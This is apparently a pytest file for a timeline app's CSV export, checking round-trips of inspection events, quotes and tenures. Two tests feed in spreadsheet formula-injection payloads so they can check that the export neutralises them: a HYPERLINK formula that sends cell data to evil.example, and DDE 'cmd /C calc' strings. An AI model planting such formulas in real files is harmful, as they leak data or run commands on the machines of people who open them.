"""CSV export: two files a spreadsheet opens cleanly, and the csv module reads back exactly."""

from __future__ import annotations

import csv

from samples import rich_timeline

from desktop.formats.export import ExportOptions, export_timeline, select_events
from desktop.formats.csv_tables import EVENT_COLUMNS, QUOTE_COLUMNS, TENURE_COLUMNS, write_csv
from desktop.core.dates import PartialDate


class _Doc:
    def __init__(self, timeline):
        self.timeline = timeline


def _read(path):
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_events_and_quotes_round_trip_through_the_csv_module(tmp_path):
    t = rich_timeline()
    events_path, quotes_path, _tenures = write_csv(t, tmp_path / "tameside.csv")
    assert quotes_path.name == "tameside-quotes.csv"
    raw = events_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    assert b"\r\n" in raw  # Excel dialect rows
    rows = _read(events_path)
    assert list(rows[0]) == list(EVENT_COLUMNS)
    assert [r["id"] for r in rows] == [e.id for e in t.events_in_order()]
    first, visit, plan, statement = rows
    assert (first["start"], first["start_precision"], first["end"], first["end_precision"]) == (
        "2016-01-01", "year", "2016-12-31", "year")  # some time in 2016, not 1 January
    assert first["kind"] == "Inspection" and first["rating"] == "Inadequate"
    assert visit["kind"] == "Monitoring visit" and visit["start"] == visit["end"] == "2017-10-19"
    assert visit["summary"] == "A monitoring visit, the fourth.\nProgress \u201ctoo slow\u201d."
    assert visit["quotes"] == "2"
    assert (plan["start"], plan["start_precision"], plan["start_approx"]) == ("2018-03-01", "month", "yes")
    assert (plan["end"], plan["end_precision"], plan["end_approx"]) == ("2020-12-31", "month", "no")
    assert statement["people"] == "Ged Cooney"
    assert first["source_citations"].startswith("Tameside Reporter, 'Ofsted warns progress too slow', Nigel Pivaro")
    quotes = _read(quotes_path)
    assert list(quotes[0]) == list(QUOTE_COLUMNS)
    assert (quotes[0]["event_start"], quotes[0]["event_start_precision"]) == ("2016-01-01", "year")
    texts = [(q["event_id"], q["speaker"], q["text"]) for q in quotes]
    assert texts == [
        ("ofsted-2016-inadequate", "Ofsted", "Widespread and serious failures"),
        ("monitoring-2017-10", "Ofsted", "Progress has been too slow"),
        ("monitoring-2017-10", "Alison Gwynne", "We accept the findings, \u201cin full\u201d"),
        ("leader-statement-2022", "Ged Cooney", "That report is devastating, we\u2019ve got to accept that"),
    ]
    assert quotes[3]["role"] == "Council leader"
    assert quotes[3]["source_citation"] == "Tameside Correspondent, 'Council leader on the report', Jun 2022."


def test_date_range_and_filter_choose_the_rows(tmp_path):
    t = rich_timeline()
    options = ExportOptions("csv", date_from=PartialDate(2017), date_to=PartialDate(2019))
    # the plan (Mar 2018 to Dec 2020) overlaps; 2016 and 2022 do not
    assert [e.id for e in select_events(t, options)] == ["monitoring-2017-10", "improvement-plan"]
    options.event_ids = frozenset({"improvement-plan", "leader-statement-2022"})
    written = export_timeline(_Doc(t), tmp_path / "out.csv", options)
    assert [r["id"] for r in _read(written[0])] == ["improvement-plan"]
    assert _read(written[1]) == []  # the plan has no quotes: a header-only quotes file


def test_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    """An imported file's text must not become a live formula when a colleague opens the CSV."""
    t = rich_timeline()
    event = t.events_in_order()[0]
    event.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    event.summary = "+1 means the same"
    event.quotes[0].text = "@SUM(1+1)*cmd|' /C calc'!A0"
    event.note = "-minus first"
    events_path, quotes_path, _tenures = write_csv(t, tmp_path / "t.csv")
    row = next(r for r in _read(events_path) if r["id"] == event.id)
    assert row["title"] == "'" + event.title
    assert row["summary"] == "'+1 means the same"
    assert row["note"] == "'-minus first"
    quote = next(q for q in _read(quotes_path) if q["event_id"] == event.id)
    assert quote["text"] == "'" + event.quotes[0].text
    # ordinary text is untouched
    assert next(r for r in _read(events_path) if r["id"] != event.id)["title"][0] != "'"


def _is_iso_date(text: str) -> bool:
    import datetime as dt

    try:
        return dt.date.fromisoformat(text).isoformat() == text
    except ValueError:
        return False


def test_every_date_cell_is_a_full_iso_date_with_its_precision(tmp_path):
    """A spreadsheet reads each date column as dates: no bare years (numbers) or bare months."""
    from pathlib import Path

    from desktop import storage

    t = storage.load(Path(__file__).resolve().parents[1] / "data" / "tameside.yaml").timeline
    events_path, quotes_path, tenures_path = write_csv(t, tmp_path / "t.csv")
    # events and quotes always have dates; a tenure's unknown start or unrecorded end is empty
    for path, columns, may_be_empty in ((events_path, ("start", "end"), False),
                                        (quotes_path, ("event_start",), False),
                                        (tenures_path, ("start", "end"), True)):
        rows = _read(path)
        assert rows
        for row in rows:
            for column in columns:
                if may_be_empty and row[column] == "":
                    assert row[f"{column}_precision"] == ""
                    continue
                assert _is_iso_date(row[column]), (path.name, column, row[column])
                assert row[f"{column}_precision"] in ("year", "month", "day")
    assert any(r["start"] == "" for r in _read(tenures_path))  # the empty case was seen
    kinds = {r["kind"] for r in _read(events_path)}
    assert {"Inspection", "Monitoring visit", "Focused visit", "Intervention"} <= kinds
    assert {r["rating"] for r in _read(events_path)} == {"", "Inadequate", "Requires improvement"}


def test_tenures_file_says_who_held_which_post_when(tmp_path):
    t = rich_timeline()
    _events, _quotes, tenures_path = write_csv(t, tmp_path / "t.csv")
    assert tenures_path.name == "t-tenures.csv"
    rows = _read(tenures_path)
    assert list(rows[0]) == list(TENURE_COLUMNS)
    assert [(r["post"], r["person"], r["start"], r["start_precision"], r["end"], r["end_precision"])
            for r in rows] == [
        ("Leader of the Council", "Ged Cooney", "2021-01-01", "year", "", ""),  # still in post: no end
        ("Director of Children's Services", "Alison Gwynne", "2015-03-01", "month", "2018-09-30", "day"),
    ]
    assert rows[0]["sources"] == "correspondent-2022-06"
    assert rows[1]["source_citations"].startswith("Tameside Reporter, 'Ofsted warns progress too slow'")


def test_tenures_file_keeps_the_tenures_in_the_asked_dates(tmp_path):
    options = ExportOptions("csv", date_from=PartialDate(2019), date_to=PartialDate(2020))
    written = export_timeline(_Doc(rich_timeline()), tmp_path / "out.csv", options)
    assert [p.name for p in written] == ["out.csv", "out-quotes.csv", "out-tenures.csv"]
    # Alison Gwynne left in Sep 2018; Ged Cooney (from 2021) starts after
    assert _read(written[2]) == []
    options.date_to = PartialDate(2021)
    written = export_timeline(_Doc(rich_timeline()), tmp_path / "out.csv", options)
    assert [r["person"] for r in _read(written[2])] == ["Ged Cooney"]


def test_dates_in_the_year_9999_end_on_its_last_day(tmp_path):
    t = rich_timeline()
    t.tenures[0].end = PartialDate(9999)
    _e, _q, tenures_path = write_csv(t, tmp_path / "t.csv")
    assert _read(tenures_path)[0]["end"] == "9999-12-31"


def test_tenure_cells_that_would_run_as_formulas_are_neutralised(tmp_path):
    t = rich_timeline()
    t.tenures[0].note = "=cmd|' /C calc'!A0"
    t.people[0].name = "@Ged Cooney"
    _e, _q, tenures_path = write_csv(t, tmp_path / "t.csv")
    row = _read(tenures_path)[0]
    assert row["note"] == "'=cmd|' /C calc'!A0" and row["person"] == "'@Ged Cooney"
